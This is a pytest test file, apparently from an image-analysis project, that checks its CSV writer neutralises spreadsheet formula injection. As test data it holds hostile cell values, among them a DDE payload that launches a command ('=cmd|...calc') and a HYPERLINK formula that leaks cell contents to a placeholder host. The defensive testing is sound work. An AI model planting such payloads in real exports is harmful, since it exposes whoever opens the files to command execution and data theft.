import csv
import io

import numpy as np
import pytest

from imrcnn_d2.data.prepare.deidentify import Pseudonyms
from imrcnn_d2.data.prepare.metadata import read_table
from imrcnn_d2.evaluation.output import log_test_evaluation, read_test_log
from imrcnn_d2.utils.files import BadInputError, Rejects, csv_line, csv_lines, csv_text, read_rows

FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "''+x", "-",
    "-1.5x", "=1,5", '="a"',
)  # fmt: skip
NUMBERS = ("-1.5", "+3", "-2e-5", "0", "-.5", "7.")
TEXTS = ("", "a.png", "'quoted'", "a=b", "'", " =1", "ü|x", "two\nlines")


def first_cell(line):
    return next(csv.reader(io.StringIO(line, newline="")))[0]


@pytest.mark.parametrize("text", [*FORMULAS, *NUMBERS, *TEXTS])
def test_no_cell_is_a_formula_and_all_are_read_back(text, tmp_path):
    written = first_cell(csv_line([text, 1]))
    if text in FORMULAS:
        assert written == f"'{text}"
    else:
        assert written == text
    path = tmp_path / "table.csv"
    path.write_text(csv_lines([("name", text or "x"), (text, "1")]), encoding="utf-8", newline="")
    assert read_rows(path, ["name"]) == [{"name": text, text or "x": "1"}]


def test_numbers_stay_numbers():
    values = [-1.5, -3, np.float64(-0.25), np.int64(-7), True, None, float("-inf")]
    assert csv_line(values) == "-1.5,-3,-0.25,-7,True,,-inf\n"


@pytest.mark.parametrize(
    "content", [b"", b"\xff\xfe", b"other\n1\n", b"name\na,b\n", b'name\n"' + b"a" * 140_000 + b'"']
)
def test_what_is_no_such_table(tmp_path, content):
    path = tmp_path / "table.csv"
    path.write_bytes(content)
    with pytest.raises(ValueError, match=r"table\.csv: "):
        read_rows(path, ["name"])


def formula_cells(path):
    """Cells that a spreadsheet program would run."""
    with open(path, newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    return [cell for cell in cells if cell[:1] in tuple("=+-@\t\r") and cell not in NUMBERS]


def test_all_tables_go_through_it(tmp_path):
    """Rejects, pseudonyms, evaluation files and the log of evaluations."""
    attack = '=HYPERLINK("http://x/"&A1)'
    rejects = Rejects("reject")
    rejects.errors.append(BadInputError(attack, attack))
    rejects.write_csv(tmp_path / "rejected.csv")
    assert read_table(tmp_path / "rejected.csv").rows[0].cells == {"file": attack, "reason": attack}

    names = Pseudonyms(tmp_path / "key", tmp_path / "out")
    new = names("patient", attack), names("patient", "'=1")
    names.write_table()
    names.write_table()  # read and written again
    found = {row["old"]: row["new"] for row in read_rows(names.table, ["old"])}
    assert found == {attack: new[0], "'=1": new[1]}

    (tmp_path / "per_image.csv").write_text(csv_text([{attack: -1.5, "name": attack}], []))
    assert read_table(tmp_path / "per_image.csv").rows[0].cells == {attack: "-1.5", "name": attack}

    gt = tmp_path / "annotations" / "test.json"
    (tmp_path / "splits.json").write_text("{}")
    log_test_evaluation(gt, what="w", sha256=attack, output=tmp_path)
    log_test_evaluation(gt, what="w", sha256=attack, output=tmp_path)
    assert [entry["sha256"] for entry in read_test_log(gt)] == [attack, attack]

    tables = [*tmp_path.glob("*.csv"), names.table]
    assert len(tables) == 5
    assert not [cell for table in tables for cell in formula_cells(table)]
